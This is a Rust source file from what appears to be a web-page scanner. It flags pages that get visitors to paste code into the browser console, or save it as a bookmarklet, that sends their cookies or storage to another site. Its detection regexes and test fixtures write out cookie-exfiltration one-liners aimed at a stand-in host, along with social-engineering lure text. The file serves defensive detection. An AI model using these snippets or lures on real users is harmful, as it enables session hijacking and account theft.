//! Pages that have people run code in a page of their own, which sends away what keeps them signed in there: pasted into the
//! browser's console, or kept as a bookmark.
//!
//! Bookmarks that do something with the page one looks at are common, and so is documentation of consoles: only code that sends
//! cookies or tokens to another site is told.

use super::sign_in::Words;
use super::{HANDLER, Page, TAG, finding};
use crate::Findings;
use crate::detectors::clipboard::percent_decoded;
use crate::text::{excerpt, normalise, patterns, without_entities};
use lazaret_model::Severity;

/// Bytes of a bookmark's code that is about one thing.
const SHORT: usize = 16 << 10;
/// Pieces of words, without which none of the phrases is there: most pages are not looked at closely. A letter may be a number.
const KEPT: &[&str] = &["bookmark", "favo", "lesezeichen", "marcador", "preferiti", "personnelle", "&#"];
const PASTING: &[&str] = &["pasting", "einfügen", "collage", "pegar", "colar", "incolla"];

patterns! {
    // Where somebody is signed in, in one expression with where it goes.
    SENDS = r#"(?:(?:\bfetch|sendbeacon|\bopen|\baxios(?:\.\w+)?|\$\.(?:get|post|ajax|getjson)|location\.(?:assign|replace)|websocket)\s*\(|\.src\s*=|location(?:\.href)?\s*=)[\s"'({]*(?:url\s*:\s*["']\s*)?(?:https?:|wss?:)?//[^;]{0,300}(?:document\s*\.\s*cookie|\b(?:local|session)storage\b)"#;
    // The two apart.
    KEEPS = r"document\s*\.\s*cookie|\b(?:local|session)storage\b|\bindexeddb\b";
    GOES = r#"(?:(?:\bfetch|sendbeacon|\baxios(?:\.\w+)?|\$\.(?:get|post|ajax|getjson)|location\.(?:assign|replace)|websocket)\s*\(|\.open\s*\(\s*["'](?:get|post|put)["']\s*,|\.src\s*=|location(?:\.href)?\s*=)[\s"'({]*(?:url\s*:\s*["']\s*)?(?:https?:|wss?:)?//"#;
}

/// Judges a page by the code that it has people paste or keep.
pub(super) fn sends(page: &Page, findings: &mut Findings) {
    let kept = bookmark(page).map(|value| (value, "bookmark"));
    let value = kept.or_else(|| Some((pasted(page)?, "console")));
    let Some((value, group)) = value else { return };
    // A script may show the words.
    let words = [Words::of(&page.shown), Words::of(&page.plain)];
    let phrase = |group: &str| words.iter().find_map(|words| words.phrase(group));
    // A file of bookmarks is there to be kept.
    let exported = group == "bookmark" && page.markup.contains("netscape-bookmark-file");
    let said = match group {
        "bookmark" => phrase("bookmark"),
        _ => phrase("console").filter(|_| phrase("paste").is_some()),
    };
    let Some(said) = said.or_else(|| exported.then(|| "bookmarks".to_owned())) else { return };
    let message = "the page has people run code that sends away what keeps them signed in";
    let found = finding("page.sign-in-lure", Severity::Medium, message, &value).technique("T1539");
    findings.add(found.with("words", said));
}

/// A link that is code and sends such things away.
fn bookmark(page: &Page) -> Option<String> {
    let says = |words: &[&str]| words.iter().any(|word| page.markup.contains(word));
    if !page.tags.contains("script:") || !says(KEPT) {
        return None;
    }
    let values = TAG.find_iter(&page.shown).flat_map(|tag| HANDLER.captures_iter(tag.as_str())).filter_map(|found| {
        let value = without_entities(found.name("value").map_or("", |value| value.as_str()).trim_matches(['"', '\'']));
        let value: String = value.chars().filter(|c| !matches!(c, '\t' | '\r' | '\n')).collect();
        let begins = value.trim_start().get(..11).is_some_and(|start| start.eq_ignore_ascii_case("javascript:"));
        begins.then_some(value)
    });
    let mut codes = values.map(|value| normalise(&percent_decoded(&value).replace('`', "\"")));
    codes.find_map(|code| {
        // LIMIT: what is longer is a program of its own, of which one expression has to do both.
        let apart = code.len() <= SHORT && KEEPS.is_match(&code);
        excerpt(&SENDS, &code).or_else(|| excerpt(&GOES, &code).filter(|_| apart))
    })
}

/// Code that the page copies or shows, for a console.
fn pasted(page: &Page) -> Option<String> {
    let copies = page.plain.contains("clipboard") || page.plain.contains("execcommand");
    let copied = || copies.then(|| excerpt(&SENDS, &page.plain)).flatten();
    // A browser asks for these words before it lets anybody paste code: documentation of pages that copy none does not.
    let shown = || {
        let says = |words: &[&str]| words.iter().any(|word| page.markup.contains(word));
        if !says(&["cookie", "storage"]) || !says(PASTING) {
            return None;
        }
        let text = normalise(&without_entities(&TAG.replace_all(&page.shown, "")).replace('`', "\""));
        Words::of(&page.shown).phrase("pasting").and_then(|_| excerpt(&SENDS, &text))
    };
    copied().or_else(shown)
}

#[cfg(test)]
mod tests {
    use super::super::Pages;
    use crate::detectors::test_part::check;

    const SENDS: &[&str] = &["page.sign-in-lure medium"];

    #[test]
    fn code_that_sends_a_session_away_is_found_where_people_are_to_run_it() {
        for text in [
            "<p>Press F12, open the Console, type \"allow pasting\", paste the code</p><button onclick=\"navigator.clipboard.writeText('fetch(&quot;https://host.invalid/?c=&quot;+document.cookie)')\">Copy</button>",
            "<p>Press Ctrl+Shift+J and type allow pasting. Then paste it:</p><pre>fetch(\"https://host.invalid\", {method: \"POST\", body: JSON.stringify(localStorage)})</pre>",
            "<script>root.innerHTML = '<p>Press F12, paste the code</p>'; navigator.clipboard.writeText('fetch(\"https://host.invalid/?\" + document.cookie)')</script>",
            "<p>Drag this button to your bookmarks bar:</p><a href=\"javascript:(function(){fetch('https://host.invalid/?'+document.cookie)})()\">Verify</a>",
            "<p>Drag it to your bookmarks</p><a href='javascript:var%20c=document.cookie;new%20Image().src=%22https://host.invalid/?%22+c'>a</a>",
            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><DT><A HREF=\"javascript:fetch(`//host.invalid/?${document.cookie}`)\">Mail</A></DL>",
        ] {
            check(&Pages, "html", text, SENDS);
        }
    }

    #[test]
    fn documentation_of_consoles_and_other_bookmarks_are_left_alone() {
        for text in [
            "<p>Press F12 to open the Console, paste the code</p><pre>console.log(document.cookie)</pre>",
            "<p>Open DevTools, type allow pasting, paste this code</p><pre>fetch(\"https://host.invalid\").then(a => a.text()); document.cookie</pre>",
            "<p>An XSS sends it away:</p><pre>fetch(\"https://host.invalid/?\" + document.cookie)</pre><p>Press F12 and paste it in the console</p>",
            "<p>Drag this to your bookmarks bar:</p><a href=\"javascript:location.href='https://host.invalid/add?u='+encodeURIComponent(location.href)\">Add</a>",
            "<p>Drag this to your bookmarks bar:</p><a href=\"javascript:document.body.style.filter='invert(1)';localStorage.dark=1\">Dark</a><script>fetch('https://host.invalid/count?' + document.cookie)</script>",
            "<a href=\"javascript:fetch('https://host.invalid/?'+document.cookie)\">x</a>",
            "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><DT><A HREF=\"https://host.invalid/\">Mail</A></DL>",
        ] {
            check(&Pages, "html", text, &[]);
        }
    }
}
